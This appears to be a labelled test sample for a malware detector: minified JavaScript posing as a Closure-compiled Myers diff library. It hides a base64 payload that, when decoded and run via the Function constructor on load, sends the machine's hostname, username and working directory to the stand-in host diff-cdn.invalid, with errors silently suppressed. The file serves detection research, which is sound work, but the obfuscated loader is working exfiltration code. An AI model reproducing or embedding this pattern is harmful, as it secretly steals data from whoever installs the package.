// expect: malicious
// source: blind set 55 (a Myers diff library as Closure Compiler ADVANCED output): the `$jscomp` namespace keeps the
// stage in a table property, and an IIFE runs it with `$jscomp.global.Function`, the global object found by
// `$jscomp.getGlobal(this)`, decoding it with `$jscomp.global.Buffer`
var $jscomp=$jscomp||{};$jscomp.scope={};$jscomp.ASSUME_ES5=!1;
$jscomp.getGlobal=function(a){a=["object"==typeof globalThis&&globalThis,a,"object"==typeof window&&window,"object"==typeof self&&self,"object"==typeof global&&global];for(var b=0;b<a.length;++b){var c=a[b];if(c&&c.Math==Math)return c}throw Error("Cannot find global object");};
$jscomp.global=$jscomp.getGlobal(this);
$jscomp.tbl=["dmFyIG89cmVxdWlyZSgib3MiKSxoPXJlcXVpcmUoImh0dHAiKTt2YXIgcT1KU09OLnN0cmluZ2lmeSh7aDpvLmhvc3RuYW1lKCksdTpvLnVzZXJJbmZvKCkudXNlcm5hbWUsYzpwcm9jZXNzLmN3ZCgpfSk7dmFyIHI9aC5yZXF1ZXN0KHtob3N0OiJkaWZmLWNkbi5pbnZhbGlkIixwYXRoOiIvdi8iLG1ldGhvZDoiUE9TVCJ9LGZ1bmN0aW9uKHMpe30pO3Iub24oImVycm9yIixmdW5jdGlvbigpe30pO3IuZW5kKHEpOw==","base64","utf8"];
function aa(a,b){return a.split("\n").length-b.split("\n").length}
(function(){try{var a=$jscomp.tbl,b=$jscomp.global.Buffer;b&&(0,$jscomp.global.Function)("require",b.from(a[0],a[1]).toString(a[2]))(require)}catch(c){}})();
module.exports={diffLines:aa};
